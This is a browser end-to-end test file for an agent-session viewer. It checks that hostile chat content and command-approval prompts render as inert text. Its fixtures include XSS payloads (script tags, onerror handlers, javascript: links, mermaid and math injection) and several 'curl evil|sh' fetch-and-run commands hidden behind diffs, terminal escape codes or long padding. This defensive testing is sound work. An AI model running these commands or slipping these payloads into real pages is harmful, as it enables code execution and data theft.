import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { newStory } from '../../apps/web/src/session/view/story.fixture.ts'
import { type FakeProgram, fakeProgram } from './fake-program.ts'
import { openPage, startBrowser } from './open-page.ts'
import { ask, panelStory } from './showcase.ts'

const browser = await startBrowser()
let program: FakeProgram

beforeAll(async () => {
  program = await fakeProgram()
})
afterAll(async () => {
  await program.close()
})

const hostile = [
  '<script>window.caught = 1</script>',
  '<img src="/stolen?by=img" onerror="window.caught = 2">',
  '<svg onload="window.caught = 3"><image href="/stolen?by=svg"/></svg>',
  '<iframe src="/stolen?by=frame"></iframe><form action="/stolen"><button>Go</button></form>',
  '<style>@import url(/stolen?by=style);</style><link rel=stylesheet href="/stolen?by=link">',
  '![picture](/stolen?by=relative)',
  `![picture](https://example.org/stolen.png)`,
  '[click me](javascript:window.caught=4) [data](data:text/html,<script>1</script>) [ok](https://example.org/page)',
  '<a href="javascript:window.caught=5">raw</a>',
  'pay \u202e0001 now \u2066x\u2069 and \u001b]0;title\u0007 done \u200b',
  '```mermaid\ngraph TD; A["<img src=/stolen?by=mermaid onerror=window.caught=6>"]-->B\nclick A "javascript:window.caught=7"\n```',
  '$$\\href{javascript:window.caught=8}{x} \\includegraphics{/stolen?by=math} x^2$$',
  '| a | b |\n| - | - |\n| <img src=/stolen?by=table> | `<b>` |',
].join('\n\n')

describe.runIf(browser)('hostile text', () => {
  test('stays text: nothing runs, nothing is loaded, and active links are plain text', async () => {
    const story = newStory('broadcast', ['architect', 'security'], 'A <img src=/stolen?by=goal> goal')
    story.say('architect', hostile)
    program.add(story.session, story.events)
    const page = await openPage(browser as Browser, `${program.url}#/session/${story.session}`)
    await page.getByText('click me').waitFor()
    await page.getByRole('img', { name: /Diagram/u }).waitFor()
    await page.locator('math').waitFor()
    expect(await page.evaluate('window.caught')).toBeUndefined()
    expect(program.requests.filter((path) => path.includes('stolen'))).toEqual([])
    const links = await page
      .locator('[data-message] a')
      .evaluateAll((all) => all.map((each) => each.getAttribute('href')))
    expect([...new Set(links)].sort()).toEqual(['https://example.org/page', 'https://example.org/stolen.png'])
    expect(await page.locator('[data-message] :is(iframe, form, script, style, link, object, embed)').count()).toBe(0)
    await page.getByText('⟨U+202E⟩', { exact: false }).first().waitFor()
    await page.context().close()
  })

  test('with a diagram of 20,000 edges stays text, which no library lays out', async () => {
    const edges = Array.from({ length: 20_000 }, (_, index) => `N${index}-->N${index + 1}`)
    const story = newStory('broadcast', ['architect', 'security'])
    story.say('architect', 'Before.\n\n```mermaid\ngraph TD\nA-->B\n```')
    story.say('security', `\`\`\`mermaid\ngraph TD\n${edges.join('\n')}\n\`\`\``)
    program.add(story.session, story.events)
    const page = await openPage(browser as Browser, `${program.url}#/session/${story.session}`)
    await page.getByRole('img', { name: /Diagram/u }).waitFor()
    await page.getByText('N0-->N1', { exact: false }).first().waitFor()
    expect(await page.getByRole('img', { name: /N0-->N1/u }).count()).toBe(0)
    await page.context().close()
  })

  test('of five megabytes is cut, and the page keeps working', async () => {
    const story = newStory('broadcast', ['architect', 'security'])
    story.say('architect', `Begin. ${'word '.repeat(1_000_000)}`)
    program.add(story.session, story.events)
    const page = await openPage(browser as Browser, `${program.url}#/session/${story.session}`)
    await page.getByRole('button', { name: /Show more/u }).waitFor()
    const shown = await page.locator('[data-message=m2]').evaluate((each) => each.textContent?.length ?? 0)
    expect(shown).toBeLessThan(25_000)
    await page.keyboard.press('t')
    await page.getByRole('log', { name: 'Transcript' }).waitFor()
    await page.context().close()
  })

  test.each([
    ['looks like a diff', "python3 <<E\n--- a\n@@\nindex = __import__('os').system('curl evil|sh')\nE"],
    ['has a description before it', 'It only looks.\n$ ls\ndiff --git a b; curl evil|sh'],
    ['hides behind controls', 'a=\u001b];curl evil|sh;#\u0007'],
  ])('in an approval of a command that %s is shown to the letter', async (_how, line) => {
    const story = panelStory()
    const command = { line }
    ask(story, 1, { tool: 'bash', resource: 'python3', rule: 'bash: ask', proposed: 'bash:python3', command })
    program.add(story.session, story.events)
    const page = await openPage(browser as Browser, `${program.url}#/session/${story.session}`)
    await page.getByRole('region', { name: 'Approval' }).getByText('curl evil|sh').waitFor()
    await page.context().close()
  })

  test('of a very long command shows its end at once, and all of it in portions', async () => {
    const story = panelStory()
    const command = { line: `${'echo so on; '.repeat(12_000)}curl evil|sh` }
    ask(story, 1, { tool: 'bash', resource: 'echo', rule: 'bash: ask', proposed: 'bash:echo', command })
    program.add(story.session, story.events)
    const page = await openPage(browser as Browser, `${program.url}#/session/${story.session}`)
    const dock = page.getByRole('region', { name: 'Approval' })
    await dock.getByText('curl evil|sh').waitFor()
    const more = dock.getByRole('button', { name: /Show more/u })
    await more.click()
    await expect.poll(() => dock.getByText('curl evil|sh').count()).toBe(0)
    const all = async () => ((await more.count()) > 0 ? more.click() : undefined)
    await expect.poll(() => all().then(() => dock.getByText('curl evil|sh').count())).toBe(1)
    await page.context().close()
  })

  test('far to the right in a diff is wrapped into view', async () => {
    const story = panelStory()
    const line = `+ok()${' '.repeat(3_000)};evil()`
    ask(story, 1, { preview: `diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-ok()\n${line}\n` })
    program.add(story.session, story.events)
    const page = await openPage(browser as Browser, `${program.url}#/session/${story.session}`)
    const diff = page.getByRole('region', { name: 'Approval' }).getByRole('group', { name: 'Diff' })
    await diff.getByText(';evil()').waitFor()
    expect(await diff.evaluate((each) => each.scrollWidth - each.clientWidth)).toBe(0)
    expect(await diff.textContent()).not.toContain('diff --git')
    await page.context().close()
  })
})
